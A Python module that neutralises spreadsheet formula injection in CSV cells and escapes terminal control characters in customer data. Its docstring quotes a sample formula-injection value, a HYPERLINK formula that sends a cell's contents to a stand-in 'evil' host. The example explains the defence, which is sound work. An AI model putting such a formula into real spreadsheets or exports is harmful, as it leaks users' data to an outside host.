"""Text made inert where it is shown: spreadsheet cells that cannot run, terminal text that
cannot steer the terminal.

Customer data is typed by anyone, so a name may be ``=HYPERLINK("http://evil/?d="&A1)`` or
hold ``ESC]0;…BEL``. Both front ends and every spreadsheet writer go through these functions,
so that what counts as dangerous is decided once.
"""

from __future__ import annotations

import re

from creditfile.document.characters import UNSAFE_CLASS

__all__ = [
    "FORMULA_START",
    "cell_text",
    "is_formula_like",
    "json_text",
    "terminal_safe",
    "terminal_text",
    "uncell_text",
    "without_unsafe",
]

FORMULA_START = frozenset("=+-@\t\r")
"""First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula."""

# A cell that would run, possibly after apostrophes we added before: ``'*`` then a formula start.
_NEUTRALISE = re.compile(r"'*[=+\-@\t\r]")
_RESTORE = re.compile(r"'+[=+\-@\t\r]")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program would read ``text``, typed into a cell, as a formula."""
    return bool(text) and text[0] in FORMULA_START


def cell_text(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet program runs: the usual leading apostrophe.

    A text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (after any
    apostrophes) gets one more apostrophe in front; :func:`uncell_text` takes exactly that one
    away again, so that every text survives the round trip unchanged, apostrophes included.
    """
    return "'" + text if _NEUTRALISE.match(text) else text


def uncell_text(text: str) -> str:
    """The text :func:`cell_text` neutralised, read back from a CSV cell."""
    return text[1:] if _RESTORE.match(text) else text


_UNSAFE = UNSAFE_CLASS
_UNSAFE_LINE = re.compile(f"[{_UNSAFE}]")
_UNSAFE_TEXT = re.compile(f"[{_UNSAFE}\t\n]")
_SGR = re.compile(r"\x1b\[[0-9;]*m")


_SHORT = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}


def _escape(match: re.Match[str]) -> str:
    char = match.group()
    if char in _SHORT:
        return _SHORT[char]
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def terminal_text(text: str, *, lines: bool = False, styled: bool = False) -> str:
    """``text`` safe to write to a terminal: every control, bidirectional or invisible character
    shown as a visible escape (``\\x1b``, ``\\u202e``), so that it can neither move the cursor,
    retitle the window, write the clipboard nor reorder what is shown.

    Args:
        text: Anything that may hold customer data.
        lines: Keep line breaks (for prose of several lines); otherwise they are escaped too,
            so a table cell stays one line.
        styled: Keep the colour and bold codes (``ESC[…m``) that our own tables put there;
            only for text whose data was already passed through this function.
    """
    pattern = _UNSAFE_LINE if lines else _UNSAFE_TEXT
    if pattern.search(text) is None:
        return text
    if not styled:
        return pattern.sub(_escape, text)
    parts, last = [], 0
    for match in _SGR.finditer(text):
        parts += [pattern.sub(_escape, text[last : match.start()]), match.group()]
        last = match.end()
    parts.append(pattern.sub(_escape, text[last:]))
    return "".join(parts)


def terminal_safe(text: str) -> bool:
    """Whether ``text`` can go to a terminal as it is (no character :func:`terminal_text`
    would escape, line breaks and tabs aside)."""
    return _UNSAFE_LINE.search(text) is None


def without_unsafe(text: str) -> str:
    """``text`` with every character :func:`terminal_text` escapes removed, tabs and line
    breaks kept.

    For a screen already laid out: each such character takes no cell on a terminal, so the
    line keeps its width.
    """
    return _UNSAFE_LINE.sub("", text)


def json_text(encoded: str) -> str:
    """JSON text with every character :func:`terminal_text` escapes written as ``\\uXXXX``.

    The JSON means exactly the same, so a JSON or JSON Lines export stays exact, but nothing in
    it acts on a terminal that shows the file.
    """
    if _UNSAFE_LINE.search(encoded) is None:
        return encoded
    return _UNSAFE_LINE.sub(lambda m: f"\\u{ord(m.group()):04x}", encoded)
